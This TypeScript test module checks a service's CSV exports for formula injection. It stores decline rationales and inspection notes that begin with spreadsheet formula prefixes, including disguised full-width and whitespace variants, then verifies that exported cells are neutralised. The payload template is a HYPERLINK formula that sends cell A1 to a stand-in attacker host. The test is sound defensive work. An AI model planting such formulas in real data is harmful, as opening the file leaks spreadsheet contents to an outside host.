/**
 * CSV injection: free text that starts the way a spreadsheet formula does, as a decline rationale
 * (purchase-option) and as the note of a failed inspection check (intake; it may travel to
 * purchase-option's audit), then both exports downloaded through the gateway as finance would.
 * No cell may start as a formula, and every decline rationale must be found, or nothing was checked.
 */
import { parseCsv, RackevalSystem } from '@rackeval/testing';
import { send } from '../support/http';
import { CheckOutcome, curl, Violation } from '../support/outcome';
import { Caller } from './callers';

/** Formula starts, plain and disguised: leading spaces, tab, ideographic space, full-width signs. */
export const FORMULA_PREFIXES = ['=', '+', '-', '@', ' =', '＝', '＋', '－', '＠', '\t=', '　=', '  @'];
const MARKER = 'SECCSV';

/** What a spreadsheet runs: the rule written again here, independently of the service's. */
const FORMULA = /^[\t\r\n]|^[\s\u3000]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
export const startsAsFormula = (cell: string) => FORMULA.test(cell);

export const formula = (prefix: string, marker: string) => `${prefix}HYPERLINK("http://evil.example/?"&A1,"${marker}")`;

export const inspectionMarker = (index: number) => `${MARKER}${index}I`;
export const inspectionNote = (index: number) => formula(FORMULA_PREFIXES[index % FORMULA_PREFIXES.length], inspectionMarker(index));

export async function checkCsvInjection(system: RackevalSystem, callers: Caller[], serials: string[]): Promise<CheckOutcome> {
  const finance = callers.find((caller) => caller.role === 'finance')!.token!;
  const violations: Violation[] = [];
  /** Markers stored, and whether each must be in both exports (the decline rationale is). */
  const planted = new Map<string, boolean>();
  let tried = 0;
  const decide = async (
    who: string,
    token: string,
    serial: string,
    path: string,
    body: Record<string, unknown>,
    markers: Record<string, boolean>,
  ) => {
    const url = `${system.url('purchase-option')}/v1/options/${serial}/${path}`;
    const answer = await send('POST', url, { token, body: JSON.stringify(body) });
    // Refusing such text at the door is safe too; only what was stored must come out neutralised.
    if (answer.status === 200) for (const [marker, both] of Object.entries(markers)) planted.set(marker, both);
    else if (answer.status >= 500)
      violations.push({
        what: `${path} with ${JSON.stringify(body).slice(0, 60)}…: ${answer.status}`,
        reproduce: curl('POST', url, who, JSON.stringify(body)),
      });
  };
  for (const [index, prefix] of FORMULA_PREFIXES.entries()) {
    const serial = serials[index];
    const d = `${MARKER}${index}D`;
    await decide('finance', finance, serial, 'decision', { decision: 'DECLINE', rationale: formula(prefix, d) }, { [d]: true });
    // The inspection note was stored by intake with the fixture; it is checked wherever it shows up.
    planted.set(inspectionMarker(index), false);
  }
  const exports = {
    'options export': '/api/purchase-option/v1/options/export.csv',
    'audit export': '/api/purchase-option/v1/audit/export.csv',
  };
  const seen = new Map<string, number>();
  for (const [name, path] of Object.entries(exports)) {
    const url = `${system.gatewayUrl()}${path}`;
    const answer = await send('GET', url, { token: finance });
    if (answer.status !== 200) {
      violations.push({ what: `${name}: ${answer.status}`, reproduce: curl('GET', url, 'finance') });
      continue;
    }
    const cells = parseCsv(answer.text).flat();
    for (const [marker, both] of planted) {
      const found = cells.filter((cell) => cell.includes(`"${marker}"`));
      seen.set(marker, (seen.get(marker) ?? 0) + found.length);
      if (both && !found.length)
        violations.push({
          what: `${name}: the decline rationale ${marker} is missing, so it could not be checked`,
          reproduce: curl('GET', url, 'finance'),
        });
      for (const cell of found) {
        tried++;
        if (startsAsFormula(cell))
          violations.push({
            what: `${name}: cell ${JSON.stringify(cell.slice(0, 40))} reaches a spreadsheet as a formula`,
            reproduce: curl('GET', url, 'finance'),
          });
      }
    }
  }
  const found = [...seen.values()].filter(Boolean).length;
  const target = `both exports, ${found} planted texts found (${FORMULA_PREFIXES.length} prefixes; decline rationales, inspection notes)`;
  return {
    check: 'CSV injection',
    target,
    tried,
    violations,
    skipped: planted.size ? undefined : 'no formula-like text was stored, nothing to export',
  };
}
